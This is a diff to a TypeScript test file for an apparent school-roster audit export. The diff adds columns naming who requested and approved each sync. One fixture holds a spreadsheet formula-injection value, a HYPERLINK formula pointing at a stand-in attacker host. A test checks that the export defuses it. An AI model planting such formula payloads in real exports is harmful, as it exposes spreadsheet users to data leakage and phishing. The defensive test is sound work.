@@ -1,7 +1,10 @@
 import type { QueryBus } from '@nestjs/cqrs';
 import type { Viewer, ViewerRole } from '../access/viewer';
 import type { AccessLog, AccessLogEntry, AuditFilter, LoggedChange, ReadModels } from '../ports/read-models.port';
-import { exportAudit, type AuditExportFormat } from './audit-export';
+import type { SyncSummary } from '@roster-ledger/domain';
+import { SyncNotFound } from '../errors/ledger-errors';
+import { exportAudit, type AuditExportFormat, type ExportedChange } from './audit-export';
+import { GetSyncQuery } from './get-sync.query';
 import { GetAuditFeedHandler } from './read-queries.handler';
 
 /**
@@ -43,7 +46,16 @@ const FEED: LoggedChange[] = [
   change(12, { streamId: 'section-sec2', type: 'StudentUnenrolled', recordType: 'enrollment', data: { sectionId: 'sec2', studentId: 'u2' } }),
   // Clever's last_modified is taken as the district sent it: here, a formula
   change(13, { streamId: 'school-s9', type: 'SchoolShared', recordType: 'school', cleverLastModified: '=HYPERLINK("http://evil.example/?x","click")', data: { id: 's9' } }),
+  // a sync the guard held, then approved; and one the syncs read model has not caught up with
+  change(14, { streamId: 'user-u3', type: 'StudentRemoved', recordType: 'student', syncId: 'sync-3', data: { id: 'u3' } }),
+  change(15, { streamId: 'user-u4', type: 'StudentRemoved', recordType: 'student', syncId: 'sync-4', data: { id: 'u4' } }),
 ];
+
+/** The syncs the feed's changes name, as the syncs read model has them. */
+const SYNCS: Record<string, Partial<SyncSummary>> = {
+  'sync-2': { syncId: 'sync-2', requestedBy: 'cli:ops', approvedBy: null },
+  'sync-3': { syncId: 'sync-3', requestedBy: 'schedule', approvedBy: 'dana (compliance lead)' },
+};
 
 function exporter() {
   const logged: AccessLogEntry[] = [];
@@ -54,7 +66,15 @@ function exporter() {
   } as Partial<ReadModels> as ReadModels;
   const log: AccessLog = { record: async (entry) => void logged.push(entry), query: async () => ({ items: [], next: null }) };
   const handler = new GetAuditFeedHandler(models, log, { now: () => new Date('2025-10-03T00:00:00.000Z') });
-  const queries = { execute: (query: Parameters<GetAuditFeedHandler['execute']>[0]) => handler.execute(query) } as unknown as QueryBus;
+  const syncLookups: string[] = [];
+  const sync = async ({ syncId }: GetSyncQuery) => {
+    syncLookups.push(syncId);
+    if (SYNCS[syncId] === undefined) throw new SyncNotFound(syncId);
+    return SYNCS[syncId];
+  };
+  const queries = {
+    execute: (query: Parameters<GetAuditFeedHandler['execute']>[0] | GetSyncQuery) => (query instanceof GetSyncQuery ? sync(query) : handler.execute(query)),
+  } as unknown as QueryBus;
   const run = async (role: ViewerRole, format: AuditExportFormat, after?: number, districtId = 'd1') => {
     const viewer: Viewer = { name: 'pat', role, via: 'cli audit export' };
     let text = '';
@@ -62,7 +82,7 @@ function exporter() {
     for await (const chunk of exportAudit(queries, { districtId }, viewer, format, { pageSize: 2, after })) text += chunk;
     return text;
   };
-  return { run, logged };
+  return { run, logged, syncLookups };
 }
 
 /** The cells of one CSV line (quoted cells with doubled quotes, as the export writes them). */
@@ -91,9 +111,9 @@ describe('audit export: what a removal says, to each role', () => {
   it('exports only the changes after the position given, across pages, in both formats', async () => {
     const { run } = exporter();
     const csv = (await run('compliance', 'csv', 11)).trim().split('\n').map(cells);
-    expect(csv.slice(1).map((row) => row[0])).toEqual(['12', '13']);
-    expect((JSON.parse(await run('compliance', 'json', 10)) as LoggedChange[]).map((c) => c.position)).toEqual([11, 12, 13]);
-    expect(JSON.parse(await run('compliance', 'json', 13))).toEqual([]);
+    expect(csv.slice(1).map((row) => row[0])).toEqual(['12', '13', '14', '15']);
+    expect((JSON.parse(await run('compliance', 'json', 10)) as LoggedChange[]).map((c) => c.position)).toEqual([11, 12, 13, 14, 15]);
+    expect(JSON.parse(await run('compliance', 'json', 15))).toEqual([]);
   });
 
   it('refuses a district the ledger never recorded when a position is given too, as without one: a mistyped district in a nightly export is not an empty feed', async () => {
@@ -101,19 +121,49 @@ describe('audit export: what a removal says, to each role', () => {
     await expect(run('compliance', 'csv', undefined, 'd-typo')).rejects.toMatchObject({ code: 'NOT_FOUND' });
     await expect(run('compliance', 'csv', 11, 'd-typo')).rejects.toMatchObject({ code: 'NOT_FOUND' });
     // a district recorded, with nothing after the position: an empty export, no error
-    expect(JSON.parse(await run('compliance', 'json', 13))).toEqual([]);
+    expect(JSON.parse(await run('compliance', 'json', 15))).toEqual([]);
   });
 
   it("shows compliance, in a last_known column, the removed student's name and every personal field, and the class's name", async () => {
     const { run } = exporter();
     const [header, student, section, enrollment] = (await run('compliance', 'csv')).trim().split('\n').map(cells);
-    expect(header).toEqual(['position', 'observed_at', 'recorded_at', 'clever_last_modified', 'sync_id', 'record_type', 'type', 'stream_id', 'data', 'last_known']);
+    expect(header).toEqual([
+      'position',
+      'observed_at',
+      'recorded_at',
+      'clever_last_modified',
+      'sync_id',
+      'record_type',
+      'type',
+      'stream_id',
+      'data',
+      'last_known',
+      'sync_requested_by',
+      'sync_approved_by',
+    ]);
     const lastKnown = (row: string[] | undefined) => JSON.parse(row![header!.indexOf('last_known')]!);
     expect(student!.slice(6, 9)).toEqual(['StudentRemoved', 'user-u1', '{"id":"u1"}']);
     expect(lastKnown(student)).toEqual(FEED[0]!.lastKnown);
     expect(lastKnown(section)).toEqual({ record: { name: 'Algebra 1 (A)', school: 's1' }, personal: {} });
     // a change that removed nothing has the column empty
     expect(enrollment![header!.indexOf('last_known')]).toBe('');
+  });
+
+  it("names beside each change who asked for its sync and, for a held sync, who approved it, looking each sync up once", async () => {
+    const { run, syncLookups } = exporter();
+    const [header, ...rows] = (await run('compliance', 'csv')).trim().split('\n').map(cells);
+    const people = (position: string) => {
+      const row = rows.find((r) => r[0] === position)!;
+      return [row[header!.indexOf('sync_requested_by')], row[header!.indexOf('sync_approved_by')]];
+    };
+    expect(people('10')).toEqual(['cli:ops', '']);
+    expect(people('14')).toEqual(['schedule', 'dana (compliance lead)']);
+    // a sync the syncs read model does not hold yet: the change is exported all the same
+    expect(people('15')).toEqual(['', '']);
+    expect(syncLookups.sort()).toEqual(['sync-2', 'sync-3', 'sync-4']);
+    const json = JSON.parse(await run('compliance', 'json')) as ExportedChange[];
+    expect(json.find((c) => c.position === 14)).toMatchObject({ syncId: 'sync-3', syncRequestedBy: 'schedule', syncApprovedBy: 'dana (compliance lead)' });
+    expect(json.find((c) => c.position === 10)).toMatchObject({ syncRequestedBy: 'cli:ops', syncApprovedBy: null });
   });
 
   it('writes a cell that a spreadsheet would run as a formula as text, with a quote in front; the JSON export as it is', async () => {
